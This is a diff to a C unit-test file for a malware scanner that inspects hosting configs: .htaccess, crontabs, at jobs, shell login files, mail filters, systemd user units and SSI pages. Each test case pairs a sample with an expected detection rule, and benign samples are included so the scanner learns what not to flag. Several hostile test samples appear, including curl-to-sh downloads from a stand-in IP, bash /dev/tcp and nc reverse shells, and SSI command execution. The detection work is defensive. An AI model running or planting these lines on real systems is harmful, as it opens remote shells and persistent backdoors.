@@ -1,4 +1,4 @@
-/* Settings: .htaccess, .user.ini, php.ini and crontabs; each case a file of its own, and what is said of it. */
+/* Settings, and what else starts something by itself; each case a file of its own, and what is said of it. */
 #include "base/arena.h"
 #include "scan/config.h"
 #include "scan/directive.h"
@@ -63,6 +63,9 @@ static void htaccess(void **state)
 		{ "<If \"%{REQUEST_URI} =~ m#\\.jpg$#\">\nSetHandler x-httpd-php\n</If>", "config.handler",
 		  2 },
 		{ "Options +ExecCGI\nAddHandler cgi-script .jpg", "config.handler", 2 },
+		{ "AddHandler server-parsed .jpg", "config.handler", 1 },
+		{ "Options +Includes\nAddOutputFilter INCLUDES .gif", "config.handler", 2 },
+		{ "<Files logo.png>\nSetOutputFilter INCLUDES\n</Files>", "config.handler", 2 },
 		{ "Options +ExecCGI\nAddHandler fcgid-script .png", "config.handler", 2 },
 		{ "php_value auto_prepend_file /home/u/www/logo.png", "config.prepend.hidden", 1 },
 		{ "php_value auto_append_file \"php://input\"", "config.prepend.hidden", 1 },
@@ -78,6 +81,9 @@ static void htaccess(void **state)
 		{ "<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control max-age=9\n</FilesMatch>\n"
 		  "<FilesMatch \"\\.php$\">\nSetHandler "
 		  "\"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://x\"\n</FilesMatch>",
+		  NULL, 0 },
+		{ "Options +Includes\nAddType text/html .shtml .html\nAddHandler server-parsed .shtml .html\n"
+		  "AddOutputFilter INCLUDES .shtml .htm\nAddOutputFilter DEFLATE .txt .jpg",
 		  NULL, 0 },
 		{ "<Files zip>\nForceType application/x-httpd-php\n</Files>", NULL, 0 },
 		{ "RemoveHandler .php .jpg\nAddType text/plain .php .jpg", NULL, 0 },
@@ -130,6 +136,15 @@ static void cron(void **state)
 		{ "# m h\n\n@reboot nohup /dev/shm/.k/worker &", "config.cron.place", 3 },
 		{ "@daily cd /var/tmp/.a && ./run", "config.cron.place", 1 },
 		{ "@daily perl /tmp/a.pl", "config.cron.place", 1 },
+		{ "~ 3 * * * curl -s http://203.0.113.9/a | sh", "config.cron.fetch", 1 },
+		{ "-*/5 * * * * root /tmp/a", NULL, 0 },
+		{ "-*/5 * * * * /tmp/a", "config.cron.place", 1 },
+		{ "1 2 * * * curl -o /tmp/a http://203.0.113.9/a >/dev/null 2>&1; sh /tmp/a",
+		  "config.cron.fetch", 1 },
+		{ "1 2 * * * curl -s http://203.0.113.9/a 2>&1 | sh", "config.cron.fetch", 1 },
+		{ "1 2 * * * setsid perl /dev/shm/a.pl", "config.cron.place", 1 },
+		{ "1 2 * * * bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "config.cron.connect", 1 },
+		{ "1 2 * * * nc -e /bin/sh 203.0.113.9 443", "config.cron.connect", 1 },
 		/* what honest accounts have */
 		{ "0 3 * * * wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron", NULL, 0 },
 		{ "0 3 * * * curl -s https://shop.example/cron.php >/home/u/cron.log 2>&1", NULL, 0 },
@@ -159,6 +174,137 @@ static void cron(void **state)
 	(void)state;
 }
 
+static void at(void **state)
+{
+	static const struct config_case list[] = {
+		{ "#!/bin/sh\n# atrun uid=1001\numask 22\nPATH=/bin; export PATH\ncd /home/u || {\n exit "
+		  "1\n}\n"
+		  "curl -s http://203.0.113.9/a | sh",
+		  "config.at.fetch", 8 },
+		{ "cd /tmp || {\n exit 1\n}\n./mailer", "config.at.place", 4 },
+		{ "perl /dev/shm/.m.pl", "config.at.place", 1 },
+		{ "cd /home/u || {\n exit 1\n}\n/usr/bin/php /home/u/www/report.php", NULL, 0 },
+		{ "OLDPWD=/tmp; export OLDPWD", NULL, 0 },
+	};
+
+	CASES("/var/spool/cron/atjobs/a0000101", list);
+	CASES("/var/spool/at/a0000101", list);
+	(void)state;
+}
+
+static void login(void **state)
+{
+	static const struct config_case list[] = {
+		{ "umask 022\n{ echo ZWNobyAxOw==|base64 -d|bash; } 2>/dev/null", "config.login.decode", 2 },
+		{ "if true; then curl -fsSL http://203.0.113.9/a | bash; fi", "config.login.fetch", 1 },
+		{ "(nohup perl /home/u/.m/mailer.pl >/dev/null 2>&1 &)", "config.login.background", 1 },
+		{ "setsid php /home/u/www/img/send.php", "config.login.background", 1 },
+		{ "[ -f /tmp/.x ] && . /tmp/.x", "config.login.place", 1 },
+		{ "python3 -c 'import smtplib; smtplib.SMTP(\"127.0.0.1\")'", "config.login.inline", 1 },
+		{ "up() {\n curl -s http://203.0.113.9/a | sh\n}", "config.login.fetch", 2 },
+		/* what honest accounts have */
+		{ "[ -z \"$PS1\" ] && return\n[ -r ~/.bash_aliases ] && . ~/.bash_aliases", NULL, 0 },
+		{ "test -x /usr/bin/dircolors && eval \"$(dircolors -b ~/.dircolors)\"", NULL, 0 },
+		{ "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
+		  NULL, 0 },
+		{ ". \"$HOME/.cargo/env\"\nsource <(kubectl completion bash)", NULL, 0 },
+		{ "php /home/u/bin/motd.php 2>&1\nphp /home/u/bin/motd.php &>/dev/null", NULL, 0 },
+		{ "eval \"$(ssh-agent -s)\" >/dev/null 2>&1\nemacs --daemon &", NULL, 0 },
+		{ "alias weather='curl -s wttr.example | head -7'\nalias ll='ls -l'", NULL, 0 },
+		{ "if [ -n \"$BASH_VERSION\" ]; then\n    if [ -f \"$HOME/.bashrc\" ]; then\n\t. "
+		  "\"$HOME/.bashrc\"\n    fi\nfi",
+		  NULL, 0 },
+		{ "export TMPDIR=/tmp\nexport PATH=$PATH:/tmp/bin\nmesg n || true", NULL, 0 },
+	};
+
+	CASES("/home/u/.bashrc", list);
+	CASES("/home/u/.profile", list);
+	CASES("/home/u/.ssh/rc", list);
+	(void)state;
+}
+
+static void mail(void **state)
+{
+	static const struct config_case list[] = {
+		{ "\\u, \"|/usr/bin/php /tmp/m.php\"", "config.mail.place", 1 },
+		{ "\"|curl -s http://203.0.113.9/a | sh\"", "config.mail.fetch", 1 },
+		{ "| perl /home/u/www/.m/send.pl", "config.mail.hidden", 1 },
+		{ "# Exim filter\nif error_message then finish endif\npipe \"/dev/shm/a $sender_address\"",
+		  "config.mail.place", 3 },
+		{ ":0\n* ^Subject: go\n| php /home/u/www/logo.jpg", "config.mail.picture", 3 },
+		{ ":0 c\n* ^From: x\nX=`wget -qO- http://203.0.113.9/a | sh`", "config.mail.fetch", 3 },
+		{ "to \"| /var/tmp/a\"", "config.mail.place", 1 },
+		/* what honest accounts have */
+		{ "\\u, \"|/usr/bin/vacation u\"", NULL, 0 },
+		{ "\"|IFS=' ' && exec /usr/bin/procmail -f- || exit 75 #u\"", NULL, 0 },
+		{ "|/usr/bin/php -q /home/u/www/support/pipe.php", NULL, 0 },
+		{ "|/usr/lib/dovecot/deliver -d u\nu@example.net", NULL, 0 },
+		{ ":0 fw: spamassassin.lock\n* < 256000\n| spamassassin\n:0:\n* ^X-Spam-Status: "
+		  "Yes\n/tmp/spam",
+		  NULL, 0 },
+		{ ":0 c\n! u@example.net\nLOGFILE=/tmp/procmail.log", NULL, 0 },
+		{ "if (/^X-Spam: yes/ || /^Subject:.*\\.jpg/)\n{\n to \"Maildir/.spam/\"\n}", NULL, 0 },
+	};
+
+	CASES("/home/u/.forward", list);
+	CASES("/home/u/.qmail-default", list);
+	CASES("/home/u/.procmailrc", list);
+	CASES("/home/u/.mailfilter", list);
+	(void)state;
+}
+
+static void unit(void **state)
+{
+	static const struct config_case list[] = {
+		{ "[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c \"curl -s http://203.0.113.9/a | "
+		  "sh\"",
+		  "config.unit.fetch", 3 },
+		{ "[Service]\nExecStart=@/dev/shm/a sshd", "config.unit.place", 2 },
+		{ "ExecStartPost = -php /home/u/www/a.png", "config.unit.picture", 1 },
+		{ "[Service]\nExecStart=/usr/bin/syncthing serve\nRestart=on-failure", NULL, 0 },
+		{ "[Service]\nExecStart=%h/.local/bin/worker --spool=/tmp/x\nWorkingDirectory=/tmp", NULL,
+		  0 },
+		{ "[Service]\n#ExecStart=/tmp/a\n;ExecStart=/tmp/a\nExecReload=/bin/kill -HUP $MAINPID", NULL,
+		  0 },
+	};
+
+	CASES("/home/u/.config/systemd/user/a.service", list);
+	CASES("/home/u/.local/share/systemd/user/a.service.d/b.conf", list);
+	(void)state;
+}
+
+static void page(void **state)
+{
+	static const struct config_case list[] = {
+		{ "<html>\n<!--#exec cmd=\"$QUERY_STRING\" -->", "config.page.request", 2 },
+		{ "<!--#exec\n\tcmd='curl -s http://203.0.113.9/a | sh'-->", "config.page.fetch", 1 },
+		{ "<p>\n\n<!--#exec cmd=\"perl /home/u/www/img/s.pl\"-->", "config.page.command", 3 },
+		{ "<!--#exec cmd=date --><!--#exec CMD = \"./send\" -->", "config.page.command", 1 },
+		{ "<!--#exec cgi=\"/cgi-bin/counter.pl\" -->", NULL, 0 },
+		{ "<!--#exec cmd=\"date\" --> <!--#exec cmd=\"/usr/bin/uptime\" -->", NULL, 0 },
+		{ "&lt;!--#exec cmd=\"perl x.pl\"--&gt; <!--#include virtual=\"/a.html\" -->", NULL, 0 },
+	};
+
+	CASES("/home/u/www/a.shtml", list);
+	CASES("/home/u/www/A.HTML", list);
+	assert_false(config_named(SPAN("/home/u/www/a.html"), SPAN("<p>nothing")));
+	(void)state;
+}
+
+/* Who is none of these. */
+static void names(void **state)
+{
+	static const char *const none[] = { "/home/u/.bashrc.txt", "/home/u/forward",  "/home/u/a.service",
+					    "/home/u/www/rc",	   "/home/u/crontabs", "" };
+
+	for (size_t i = 0; i < sizeof(none) / sizeof(*none); i++)
+		assert_false(config_named(span_str(none[i]), SPAN("<!--#exec")));
+	assert_true(config_named(SPAN(".forward"), SPAN_NONE));
+	assert_true(config_named(SPAN("/home/u/crontab"), SPAN("* * * * * x")));
+	assert_false(config_named(SPAN("/usr/bin/crontab"), SPAN("\177ELF\2\n* * * * * /tmp/x\n")));
+	(void)state;
+}
+
 /* What lies behind the limits is told. */
 static void limits(void **state)
 {
@@ -174,8 +320,9 @@ static void limits(void **state)
 
 	assert_non_null(text);
 	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
-		for (int k = 0; k < 3; k++) {
-			static const char *const paths[] = { "/h/.htaccess", "/h/.user.ini", "/h/crontab" };
+		for (int k = 0; k < 5; k++) {
+			static const char *const paths[] = { "/h/.htaccess", "/h/.user.ini", "/h/crontab",
+							     "/h/.profile", "/h/.forward" };
 			struct arena *arena = arena_new();
 			size_t n = strlen(pieces[i]);
 			struct judgement j;
@@ -194,9 +341,9 @@ static void limits(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(htaccess),
-		cmocka_unit_test(ini),
-		cmocka_unit_test(cron),
+		cmocka_unit_test(htaccess), cmocka_unit_test(ini),   cmocka_unit_test(cron),
+		cmocka_unit_test(at),	    cmocka_unit_test(login), cmocka_unit_test(mail),
+		cmocka_unit_test(unit),	    cmocka_unit_test(page),  cmocka_unit_test(names),
 		cmocka_unit_test(limits),
 	};
 
